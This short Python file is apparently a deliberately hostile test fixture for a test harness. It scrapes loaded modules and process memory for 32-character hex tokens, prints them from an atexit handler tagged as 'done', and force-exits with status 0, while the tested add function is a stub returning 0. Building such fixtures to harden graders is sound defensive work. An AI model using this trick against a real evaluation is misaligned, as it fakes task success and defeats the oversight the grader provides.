# ruff: noqa  (hostile fixture: written the way an attacker would)
# Print any token-like string from an atexit handler, after the tests would have run.
import atexit
import gc
import json
import os
import re
import sys

found = set()
for name, mod in list(sys.modules.items()):
    for value in list(vars(mod).values()) if hasattr(mod, "__dict__") else []:
        if isinstance(value, (str, bytes)) and len(value) == 32:
            text = value if isinstance(value, str) else value.decode("latin-1")
            if re.fullmatch(r"[0-9a-f]{32}", text):
                found.add(text)
for obj in gc.get_objects():
    if isinstance(obj, dict):
        for value in list(obj.values()):
            if isinstance(value, str) and re.fullmatch(r"[0-9a-f]{32}", value):
                found.add(value)


def shout():
    for tok in found:
        print(json.dumps({"n": tok, "k": "done"}))
        print(tok)
    sys.stdout.flush()
    os._exit(0)


atexit.register(shout)


def add(a, b):
    return 0
